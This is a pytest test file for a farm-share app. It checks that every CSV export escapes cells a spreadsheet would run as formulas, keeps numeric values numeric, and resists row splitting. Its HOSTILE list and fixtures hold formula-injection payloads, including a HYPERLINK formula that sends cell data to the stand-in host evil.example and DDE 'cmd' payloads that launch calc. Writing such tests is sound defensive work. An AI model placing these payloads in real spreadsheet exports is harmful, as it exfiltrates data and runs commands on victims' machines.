"""Every CSV export goes through one writer (csa/core/csvfile.py): no cell a spreadsheet
would run as a formula, numbers the app writes stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from csa.core.csvfile import FORMULA_START, csv_text, guard, unguard
from csa.models import HarvestEntry, Role, Round, RoundStatus
from tests.factories import add_member, make_farm

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Anna Nowak", "Anna Nowak"),
        ("a=1", "a=1"),
        ("'quoted", "'quoted"),
        # Digits and the signs of a number or a phone cannot call anything.
        ("-1.5", "-1.5"),
        ("+48 600 100 200", "+48 600 100 200"),
        ("-", "'-"),
        # ... but a letter, a colon or a quote after them can.
        ("-1+A1", "'-1+A1"),
        ("+1 (2) :", "'+1 (2) :"),
    ],
)
def test_guard(value, written):
    assert guard(value) == written
    assert unguard(written) == value


def test_numbers_the_app_writes_stay_numbers():
    text = csv_text(["a", "b", "c", "d", "e"], [[-3, Decimal("-1.5"), None, True, "=x"]])
    assert text == "a,b,c,d,e\r\n-3,-1.5,,1,'=x\r\n"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]


def _assert_no_formula(text: str) -> None:
    bad = [c for c in _cells(text) if c.startswith(FORMULA_START) and guard(c) != c]
    assert bad == []


@pytest.fixture
def hostile_farm(db):
    """A farm whose every name a coordinator or a member can type is a formula."""
    farm = make_farm()
    farm.season.name = HOSTILE[0][:100]
    farm.full.name = HOSTILE[1]
    farm.tuesday.name = HOSTILE[2]
    farm.tomatoes.name = HOSTILE[3]
    farm.pumpkins.name = "=1+1"
    for i, name in enumerate(HOSTILE):
        membership = add_member(farm, name=name, share_type=farm.full)
        membership.member.phone = "=HYPERLINK(1)" if i % 2 else "+48 600 100 200"
    round_ = Round(date=date(2027, 5, 4), status=RoundStatus.OPEN)
    db.session.add(round_)
    db.session.flush()
    db.session.add_all(
        [
            HarvestEntry(round_id=round_.id, crop_id=farm.tomatoes.id, quantity_milli=30_000),
            HarvestEntry(round_id=round_.id, crop_id=farm.pumpkins.id, quantity_milli=12_000),
        ]
    )
    db.session.commit()
    return farm


@pytest.fixture
def coordinator(make_user, auth):
    user = make_user(Role.COORDINATOR)
    auth.login(user.email)
    return user


def test_round_export_guards_every_hostile_cell(client, coordinator, hostile_farm):
    response = client.get("/rounds/2027-05-04/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2 * len(HOSTILE)
    assert {r["member"] for r in rows} == {"'" + h for h in HOSTILE}
    assert {r["crop"] for r in rows} == {"'" + HOSTILE[3], "'=1+1"}
    # The quantities are the app's own numbers: still numbers.
    assert all(float(r["quantity"]) > 0 for r in rows)


def test_round_export_on_the_command_line_is_guarded(runner, hostile_farm):
    result = runner.invoke(args=["csa", "export-round", "2027-05-04"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.stdout)
    assert "'" + HOSTILE[0] in _cells(result.stdout)


def test_register_export_guards_and_imports_back(client, coordinator, hostile_farm):
    response = client.get("/register/export.csv?season=all")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    _assert_no_formula(text)
    assert "+48 600 100 200" in text  # a phone number stays as typed
    assert "'=HYPERLINK(1)" in text


def test_register_export_on_the_command_line_is_guarded(runner, hostile_farm):
    result = runner.invoke(args=["csa", "export-members"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.stdout)
    assert result.stdout.count("'") >= len(HOSTILE)


def test_crops_list_is_guarded(runner, hostile_farm):
    result = runner.invoke(args=["csa", "crops"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.stdout)
    assert "'=1+1,piece,1" in result.stdout.splitlines()


def test_a_carriage_return_in_old_data_cannot_split_a_row():
    text = csv_text(["name", "n"], [["a\rb", 1], ["c\nd", 2]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["name", "n"],
        ["a\rb", "1"],
        ["c\nd", "2"],
    ]


def test_no_other_module_writes_csv():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "csa"
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer" in path.read_text("utf-8") or "DictWriter" in path.read_text("utf-8")
    ]
    assert writers == ["core/csvfile.py"]
